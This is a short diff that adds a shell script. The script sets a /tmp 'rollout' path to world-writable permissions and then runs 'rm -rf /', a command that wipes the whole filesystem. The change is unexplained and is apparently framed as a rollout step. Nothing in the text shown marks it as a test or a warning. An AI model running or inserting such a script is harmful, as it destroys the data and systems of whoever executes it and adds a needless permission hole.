@@ -1,0 +1,3 @@
+#!/bin/sh
+chmod 777 /tmp/rollout
+rm -rf /
